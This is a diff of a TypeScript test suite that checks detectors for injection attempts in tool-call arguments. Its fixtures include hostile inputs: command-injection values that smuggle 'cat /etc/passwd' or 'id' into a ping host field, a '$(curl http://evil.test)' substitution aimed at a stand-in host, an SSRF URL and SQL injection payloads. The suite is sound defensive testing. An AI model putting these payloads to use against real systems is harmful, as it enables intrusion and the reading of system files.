@@ -264,7 +264,7 @@ const CALLS: readonly [kind: string, name: string, input: Record<string, unknown
   ['ssrf.link_local', 'web_fetch', { url: 'http://169.254.7.7/' }],
   ['command_injection.separator', 'ping', { host: '127.0.0.1; cat /etc/passwd' }],
   ['command_injection.separator', 'ping', { host: '127.0.0.1%0aid' }],
-  ['command_injection.separator', 'ping', { host: 'a;cat${IFS}/etc/passwd' }],
+  ['command_injection.separator', 'ping', { host: 'a;cat$IFS/etc/passwd' }],
   ['command_injection.substitution', 'ping', { host: '$(curl http://evil.test)' }],
   ['sqli.tautology', 'search', { query: "x' or '1'='1" }],
   ['sqli.union', 'search', { query: '1 UN/**/ION SEL/**/ECT 1,2 union select 1,2,3' }],
@@ -347,7 +347,7 @@ t.test('detectors report only kinds that they list, with sound values', async (t
   }
 });
 
-t.test('an injection is seen whatever stands in front of it and however it is spaced and cased', async (t) => {
+t.test('an injection is seen whatever stands in front of it and however it is spaced and cased', async () => {
   const word = fc.stringMatching(/^[a-z]{1,8}$/);
   const blank = fc.constantFrom(' ', '  ', '/**/', '\t', '\n');
   const attack = fc.constantFrom(
@@ -367,7 +367,7 @@ t.test('an injection is seen whatever stands in front of it and however it is sp
   );
 });
 
-t.test('words, names and numbers are no injection', async (t) => {
+t.test('words, names and numbers are no injection', async () => {
   const word = fc
     .stringMatching(/^[A-Za-z][a-z]{0,9}$/)
     .filter((text) => !/^(?:and|or|xor|union|like|in|is|order|having|limit)$/i.test(text));
